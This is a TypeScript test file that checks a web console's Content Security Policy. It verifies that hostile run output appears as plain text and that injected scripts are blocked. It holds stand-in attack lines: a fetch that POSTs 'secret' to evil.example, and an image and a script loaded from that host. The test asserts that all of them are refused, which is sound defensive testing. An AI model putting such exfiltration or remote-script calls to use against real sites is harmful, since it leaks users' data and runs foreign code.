/**
 * Goal: what people and programs write is text, and nothing of a page leaves its origin.
 * Method: a run whose every word means harm, on every screen; then a page that tries.
 */
import type { Client, RunHandle } from "@troupe/sdk/client";
import { expect, test } from "vitest";
import { lookingAt } from "./support/looked-at.ts";
import { goWithin, isShown, screensOf, type World } from "./support/screens.ts";
import { untilTask } from "./support/until.ts";

lookingAt("a page of the console", (there) => {
  test("shows hostile words as they are, on every screen", { timeout: 120_000 }, async () => {
    const { client, visit } = there();
    const run = await client.submit("hostile", {});
    const world = await worldOf(client, run);
    const visitor = await visit("/");
    // What a report asks for is refused in its frame, and said there; where it wants to go it may try, and gets nowhere.
    visitor.expects(
      /^console: (?:Blocked script|Loading the image).*about:srcdoc|^request: https:\/\/evil\.example\/report$/,
    );
    const { page } = visitor;
    for (const { path } of screensOf(world)) {
      await goWithin(page, path);
      expect(await page.title(), path).not.toContain("owned");
    }
  });

  test("is kept from whatever its policy forbids", async () => {
    const visitor = await there().visit("/");
    await isShown(visitor.page);
    visitor.expects(/evil\.example|Content Security Policy|unsafe-eval|blocked: (?:script-src|style-src)|inline/);
    const tried = await visitor.page.evaluate(async () => {
      const script = document.createElement("script");
      script.textContent = "window.inlineRan = true";
      document.body.append(script);
      const link = document.createElement("a");
      link.setAttribute("onclick", "window.handlerRan = true");
      document.body.append(link);
      link.click();
      const image = new Image();
      const loads = (element: HTMLElement): Promise<string> =>
        new Promise((resolve) => {
          element.addEventListener("load", () => resolve("loaded"));
          element.addEventListener("error", () => resolve("refused"));
        });
      const picture = loads(image);
      image.src = "https://evil.example/picture.png";
      const foreign = document.createElement("script");
      const program = loads(foreign);
      foreign.src = "https://evil.example/program.js";
      document.body.append(foreign);
      const sent = await fetch("https://evil.example/", { method: "POST", body: "secret" }).then(
        () => "sent",
        () => "refused",
      );
      const { inlineRan, handlerRan } = window as { inlineRan?: boolean; handlerRan?: boolean };
      return { inlineRan, handlerRan, sent, picture: await picture, program: await program };
    });
    expect(tried).toEqual({
      inlineRan: undefined,
      handlerRan: undefined,
      sent: "refused",
      picture: "refused",
      program: "refused",
    });
  });
});

async function worldOf(client: Client, run: RunHandle): Promise<World> {
  const harm = await untilTask(run, "harm", "succeeded");
  const { digest } = (harm.output as { readonly page: { readonly digest: string } }).page;
  const [agent] = await client.agents();
  return { pipeline: "hostile", run: run.id, task: "harm", artifact: digest, agent: agent?.id ?? "" };
}
